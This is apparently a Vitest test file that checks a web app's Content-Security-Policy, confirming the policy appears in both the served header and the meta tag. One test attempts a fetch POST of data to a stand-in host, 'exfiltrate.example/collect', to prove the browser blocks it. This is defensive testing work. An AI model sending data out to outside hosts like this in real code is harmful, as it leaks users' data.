import { describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../scripts/content-security-policy.ts';
import { useBuiltAppBrowser } from './built-app-browser.ts';

// The policy that keeps data in the tab: only the app's origin, plus the catalogue's model hosts.
describe('Content-Security-Policy', () => {
  const served = useBuiltAppBrowser();

  it('allows connections only to the app and the model hosts', () => {
    // Written out, not rebuilt from MODEL_HOSTS: a host added there or any loosened directive fails here.
    expect(CONTENT_SECURITY_POLICY.split('; ')).toEqual([
      "default-src 'self'",
      "script-src 'self' 'wasm-unsafe-eval'",
      "worker-src 'self' blob:",
      "style-src 'self' 'unsafe-inline'",
      "img-src 'self' data: blob:",
      "connect-src 'self' https://huggingface.co https://*.huggingface.co https://*.hf.co https://raw.githubusercontent.com",
      "object-src 'none'",
      "base-uri 'self'",
    ]);
  });

  it('is in the built page and blocks a request to any other host before it leaves the browser', async () => {
    const page = await served.browser.newPage();
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    const response = await page.goto(served.app.url);
    expect(response?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toBe(CONTENT_SECURITY_POLICY);
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      // Reported once per policy in force: the header's and the meta tag's. Waits for both (the test times out otherwise).
      const reported = new Promise<void>((resolve) =>
        document.addEventListener('securitypolicyviolation', (e) => {
          if (violations.push(e.blockedURI) === 2) resolve();
        }),
      );
      let fetched: boolean;
      try {
        await fetch('https://exfiltrate.example/collect', { method: 'POST', body: 'row' });
        fetched = true;
      } catch {
        fetched = false;
      }
      await reported;
      return { fetched, violations };
    });
    expect(outcome.fetched).toBe(false);
    expect(outcome.violations).toEqual(['https://exfiltrate.example/collect', 'https://exfiltrate.example/collect']);
    expect(requests.filter((u) => u.includes('exfiltrate'))).toEqual([]);
  });
});
